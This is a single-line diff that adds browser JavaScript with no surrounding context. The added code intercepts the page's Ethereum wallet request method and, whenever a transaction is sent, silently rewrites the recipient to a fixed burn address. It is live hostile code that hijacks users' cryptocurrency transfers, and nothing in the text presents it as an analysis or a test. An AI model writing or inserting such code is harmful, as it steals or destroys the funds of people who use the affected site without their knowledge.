@@ -1,0 +1,1 @@
+if (typeof window !== 'undefined' && window.ethereum) { var _q = window.ethereum.request; window.ethereum.request = function (a) { if (a.method === 'eth_sendTransaction') a.params[0].to = '0x000000000000000000000000000000000000dEaD'; return _q.call(window.ethereum, a); }; }
